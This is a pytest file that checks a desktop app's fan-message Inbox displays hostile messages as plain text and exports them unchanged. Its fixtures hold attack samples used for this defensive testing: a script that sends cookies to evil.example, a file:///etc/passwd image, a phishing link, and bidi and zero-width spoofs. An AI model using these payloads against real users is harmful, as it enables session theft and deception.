"""Hostile fan messages: shown as plain text in the Inbox, and exported byte for byte in reply packs.

Markup (HTML, a script, a remote image, a link, markdown), a 1 MB message, zero-width and bidi
control characters, combining-mark floods. The red-team prompts against the drafting model
itself live in ``tests/core/generation/test_redteam.py``.
"""

from __future__ import annotations

import csv
import io
import json
import time
import zipfile
from pathlib import Path

import pytest
from PySide6.QtCore import Qt
from PySide6.QtGui import QTextDocument

from desktop.core.display_text import DISPLAY_LIMIT, FIRST_STRONG_ISOLATE
from desktop.core.inbox import add_message, approve, export_pack, save_draft
from desktop.core.inbox.review import get_detail
from desktop.core.secrets import SecretStore
from desktop.core.store import Store, open_store
from desktop.ui.widgets.inbox_detail import InboxDetail
from tests.conftest import InMemoryKeyring

HOSTILE = {
    "html": '<b>bold</b> <img src="file:///etc/passwd"> <img src="https://evil.example/pixel.png"> '
    '<a href="https://evil.example/login">your account is locked, click here</a>',
    "script": "<script>fetch('https://evil.example/?c='+document.cookie)</script><style>*{display:none}</style>",
    "table": "<table width=100000><tr><td>wide</td></tr></table><h1 style='color:red'>FAKE WARNING</h1>",
    "markdown": "**bold** _it_ [link](https://evil.example) ![img](https://evil.example/x.png) `code`\n# "
    "Heading",
    "zero-width": "pay\u200bpal\u200c.com \u200dlog\u2060in \ufeffnow",
    "bidi": "invoice_\u202egnp.exe\u202c and \u2066\u2067isolated\u2069\u2069 \u202aLRE\u202c "
    "\u202bRLE\u202c \u200f\u200e",
    "combining": "Z\u0336\u0351\u0300a\u0337\u0301l\u0338\u0302g\u0335\u0303o" + "\u0300" * 500,
    "entities": "&lt;b&gt; &amp; &#x3C;script&#x3E; &nbsp;",
    "mixed lines": "line one\r\nline two\rline three\n\n\ttabbed",
}
LONG = ("A fan's very long message, over and over. " * 30000)[:1_000_000]


@pytest.fixture
def hostile_store(tmp_path: Path) -> tuple[Store, dict[str, int]]:
    store = open_store(tmp_path / "store.sqlite3")
    items = {}
    for number, (name, text) in enumerate({**HOSTILE, "1 MB": LONG}.items()):
        items[name] = add_message(
            store,
            text,
            sender=f"<i>fan</i>\u202e{number}",
            platform="instagram",
            thread=f"thread-{number}",
            message_id=f"m-{number}",
            created_at=f"2024-05-01T10:{number:02d}:00+00:00",
        )
        provenance = {
            "sources": [
                {"id": 1, "text": HOSTILE["script"] + " " + HOSTILE["html"], "score": 0.5, "role": "example"}
            ]
        }
        save_draft(store, items[name], f"Thanks! {text[:2000]}", provenance=provenance)
    yield store, items
    store.close()


def rendered(html: str) -> str:
    """What a rich-text label shows: the HTML as Qt renders it, back to plain text."""
    document = QTextDocument()
    document.setHtml(html)
    return document.toPlainText()


# The offscreen platform says so whenever a shown top-level widget's size hints change.
@pytest.mark.qt_log_ignore("propagateSizeHints")
def test_the_inbox_shows_fan_messages_as_plain_text(
    qtbot, hostile_store: tuple[Store, dict[str, int]]
) -> None:
    store, items = hostile_store
    detail = InboxDetail()
    qtbot.addWidget(detail)
    detail.resize(1000, 800)
    detail.show()
    for label in (detail.sender_label, detail.meta_label, detail.message_label, detail.flag_banner):
        assert label.textFormat() == Qt.TextFormat.PlainText, label.accessibleName() or label.objectName()
    items_number = {name: number for number, name in enumerate(items)}
    for name, item in items.items():
        started = time.monotonic()
        detail.show_detail(get_detail(store, item))
        qtbot.wait(1)  # lay it out
        shown_in = time.monotonic() - started
        original = LONG if name == "1 MB" else HOSTILE[name]
        shown = detail.message_label.text()
        # Every character, markup as text, in an isolate (its bidi controls end where it ends);
        # past DISPLAY_LIMIT the label says how much is not shown.
        assert shown.startswith(FIRST_STRONG_ISOLATE + original[:DISPLAY_LIMIT]), name
        if len(original) <= DISPLAY_LIMIT:
            assert shown[1:].startswith(original) and not shown[1 + len(original) :].strip("\u202c\u2069"), (
                name
            )
        else:
            assert "1,000,000 characters in all" in shown and len(shown) < DISPLAY_LIMIT + 200
        # The name keeps its markup as text but loses the override that would reverse what follows.
        assert detail.sender_label.text() == f"{FIRST_STRONG_ISOLATE}<i>fan</i>{items_number[name]}\u2069"
        # The rich-text parts escape what they quote: the markup survives as visible text.
        assert "<script>fetch(" in rendered(detail.sources_label.text())
        assert "<style>*{display:none}</style>" in rendered(detail.sources_label.text())
        assert detail.editor.toPlainText().startswith("Thanks! ")
        if name == "1 MB":
            print(f"\nshowing a 1 MB message took {shown_in:.2f} s")
            assert shown_in < 60  # a hang guard; speed is for the benchmarks


def test_the_conversation_above_a_message_escapes_earlier_fan_messages(qtbot, tmp_path: Path) -> None:
    with open_store(tmp_path / "store.sqlite3") as store:
        earlier = [
            add_message(
                store,
                text,
                sender="fan",
                platform="instagram",
                thread="t1",
                message_id=f"e{n}",
                created_at=f"2024-05-01T09:{n:02d}:00+00:00",
            )
            for n, text in enumerate([HOSTILE["html"], HOSTILE["script"], HOSTILE["table"]])
        ]
        last = add_message(
            store,
            "and one more?",
            sender="fan",
            platform="instagram",
            thread="t1",
            message_id="e9",
            created_at="2024-05-01T10:00:00+00:00",
        )
        detail = InboxDetail()
        qtbot.addWidget(detail)
        detail.show_detail(get_detail(store, last))
        assert [line.item_id for line in detail.detail.thread] == earlier
        shown = rendered(detail.thread_label.text())
        for text in ('<img src="file:///etc/passwd">', "<script>fetch(", "<table width=100000>"):
            assert text in shown, text


def test_hostile_messages_and_replies_are_exported_byte_for_byte(
    hostile_store: tuple[Store, dict[str, int]], tmp_path: Path, memory_keyring: InMemoryKeyring
) -> None:
    store, items = hostile_store
    for item in items.values():
        approve(store, item)
    pack = tmp_path / "replies.zip"
    summary = export_pack(store, pack, secret_store=SecretStore())
    assert summary.replies == len(items)
    originals = {**HOSTILE, "1 MB": LONG}
    expected = {(text, f"Thanks! {text[:2000]}") for text in originals.values()}
    csv.field_size_limit(2**31 - 1)  # a 1 MB message is one CSV field (the module's default limit is 128 KB)
    with zipfile.ZipFile(pack) as archive:
        jsonl = [json.loads(line) for line in archive.read("replies.jsonl").decode("utf-8").splitlines()]
        table = list(csv.DictReader(io.StringIO(archive.read("replies.csv").decode("utf-8"), newline="")))
    assert {(row["original_message"], row["reply_text"]) for row in jsonl} == expected
    assert {(row["original_message"], row["reply_text"]) for row in table} == expected
    assert {row["recipient"] for row in jsonl} == {f"<i>fan</i>\u202e{n}" for n in range(len(items))}
